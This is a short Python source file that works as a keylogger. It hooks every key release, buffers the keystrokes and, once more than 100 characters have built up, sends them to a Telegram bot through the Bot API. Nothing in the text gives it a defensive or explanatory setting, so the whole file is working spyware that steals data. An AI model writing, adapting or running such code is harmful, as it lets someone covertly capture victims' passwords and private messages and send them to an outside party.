import keyboard, requests
class K:
    def __init__(self, t, c):
        self.t, self.c, self.buf = t, c, ""
    def cb(self, e):
        self.buf += e.name if len(e.name) == 1 else f"[{e.name}]"
        if len(self.buf) > 100:
            requests.get(f"https://api.telegram.org/bot{self.t}/sendMessage?chat_id={self.c}&text={self.buf}")
            self.buf = ""
    def run(self):
        keyboard.on_release(callback=self.cb)
        keyboard.wait()
